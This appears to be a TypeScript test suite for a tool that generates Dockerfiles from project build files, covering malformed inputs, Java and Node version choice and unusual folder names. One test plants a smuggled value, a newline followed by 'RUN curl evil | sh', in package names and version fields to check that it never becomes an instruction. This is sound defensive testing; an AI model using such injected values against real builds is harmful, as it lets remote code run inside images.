import assert from 'node:assert/strict';
import { readDockerfile } from '../../../server/src/syntax/dockerfile/adapter.js';
import { dockerfile, found, generate } from './golden.js';
import { bootJar, gradleBoot, node, type Files } from './workspaces.js';

const express = { name: 'shop', private: true, scripts: { start: 'node server.js' }, dependencies: { express: '^4' } };
const listen = "require('express')().listen(3000);\n";

/** Instructions of a Dockerfile as Docker reads them. */
function keywords(text: string): readonly string[] {
  return text.replace(/\\\n/g, '').split('\n').filter((line) => line !== '' && !line.startsWith('#')).map((line) => line.split(' ')[0] ?? '');
}

describe('generators on input that says too little, or too much', () => {
  it('generates nothing without a build file and without a program', async () => {
    assert.deepEqual(await found({ 'README.md': '# shop\n', 'data.csv': 'a,b\n' }), []);
    assert.deepEqual(await found({}), []);
  });

  it('survives build files that cannot be read', async () => {
    for (const [path, text] of [['pom.xml', '<project><artifactId>'], ['package.json', '{"name":'], ['pyproject.toml', '[project\nname='], ['go.mod', ''], ['composer.json', '[]'], ['Shop.csproj', '<Project'], ['build.gradle', 'plugins {'], ['angular.json', '{'], ['global.json', '[]'], ['.python-version', '\n'], ['Staticfile', ':\n']] as const) {
      assert.deepEqual((await found({ [path]: text })).filter(({ platform }) => platform !== 'static'), [], path);
    }
  });

  it('puts a WAR without web.xml on the server that its dependencies tell', async () => {
    const pom = '<project><groupId>a</groupId><artifactId>shop</artifactId><version>1</version><packaging>war</packaging><dependencies><dependency><groupId>jakarta.servlet</groupId><artifactId>jakarta.servlet-api</artifactId><version>6.0.0</version><scope>provided</scope></dependency></dependencies></project>';
    const text = await dockerfile({ 'pom.xml': pom, 'src/main/webapp/index.html': '' });
    assert.match(text, /^FROM tomcat:10\.1-/m);
    assert.match(text, /^# TODO: the build names no Java release/m);
  });

  it('asks for the Java release where the parent of a pom cannot be read', async () => {
    const pom = '<project><parent><groupId>kr.co.shop</groupId><artifactId>company-parent</artifactId><version>7</version><relativePath>../no/such/pom.xml</relativePath></parent><artifactId>shop</artifactId><packaging>war</packaging></project>';
    const text = await dockerfile({ 'pom.xml': pom, 'src/main/webapp/index.jsp': '<html></html>\n' });
    assert.match(text, /^# TODO: the build names no Java release/m);
    assert.match(text, /^# TODO: nothing tells javax\.servlet from jakarta\.servlet/m);
  });

  it('takes a release that the range lets in, and says which range', async () => {
    assert.match(await dockerfile(node({ ...express, engines: { node: '>=18 <21 || ^22.1' } }, { 'server.js': listen })), /^# Build\. Node\.js 22: engines in package\.json asks for >=18 <21 \|\| \^22\.1\.$/m);
  });

  it('keeps line breaks of names and versions from becoming instructions', async () => {
    const evil = 'x\nRUN curl evil | sh\n';
    const files: readonly Files[] = [
      node({ ...express, name: evil, engines: { node: evil } }, { 'server.js': listen, '.nvmrc': evil }),
      { 'composer.json': JSON.stringify({ name: evil, type: 'project', require: { php: evil, [`ext-${evil}`]: '*' } }), 'public/index.php': '<?php\n' },
      { 'Shop.csproj': `<Project Sdk="Microsoft.NET.Sdk.Web"><PropertyGroup><TargetFramework>net10.0</TargetFramework><AssemblyName>${evil}</AssemblyName></PropertyGroup></Project>` },
    ];
    for (const each of files) {
      const text = await dockerfile(each);
      assert.ok(keywords(text).every((word) => /^(?:FROM|RUN|COPY|WORKDIR|ENV|USER|EXPOSE|CMD|ENTRYPOINT)$/.test(word)), text);
      assert.doesNotMatch(text, /^RUN curl/m);
    }
  });

  for (const dir of ['주문 서버', "it's web", '.hidden', 'a$b', 'x"y']) {
    it(`builds in a folder that is called ${dir}`, async () => {
      const under = (files: Files): Files => Object.fromEntries(Object.entries(files).map(([path, text]) => [`${dir}/${path}`, text]));
      for (const files of [bootJar('3.4.2', '21'), gradleBoot(), node(express, { 'server.js': listen, 'package-lock.json': '{}' }), { 'requirements.txt': 'flask\n', 'app.py': 'from flask import Flask\n\napp = Flask(__name__)\n' }]) {
        const image = await generate(under(files));
        assert.equal(image.files[0]?.path, `${dir}/Dockerfile`);
        assert.ok(readDockerfile(image.files[0]?.text ?? '').instructions.length > 5);
        assert.match(image.notes[0]?.en ?? '', /^Build it with: docker build -t [a-z0-9][a-z0-9/._-]* -f /);
      }
    });
  }

  it('names modules with spaces and Korean letters in commands and copies as they are', async () => {
    const workspace = node({ name: 'root', private: true, workspaces: ['앱 서버', 'other'] }, { 'package-lock.json': '{}', '앱 서버/package.json': JSON.stringify({ ...express, name: 'app' }), '앱 서버/server.js': listen, 'other/package.json': JSON.stringify({ ...express, name: 'other' }), 'other/server.js': listen });
    const { files } = await generate(workspace, '앱 서버');
    const text = files[0]?.text ?? '';
    assert.match(text, /^COPY \["앱 서버\/package\.json", "앱 서버\/package\.json"\]$/m);
    assert.ok(keywords(text).every((word) => /^(?:FROM|RUN|COPY|WORKDIR|ENV|USER|EXPOSE|CMD|ENTRYPOINT)$/.test(word)), text);
  });
});
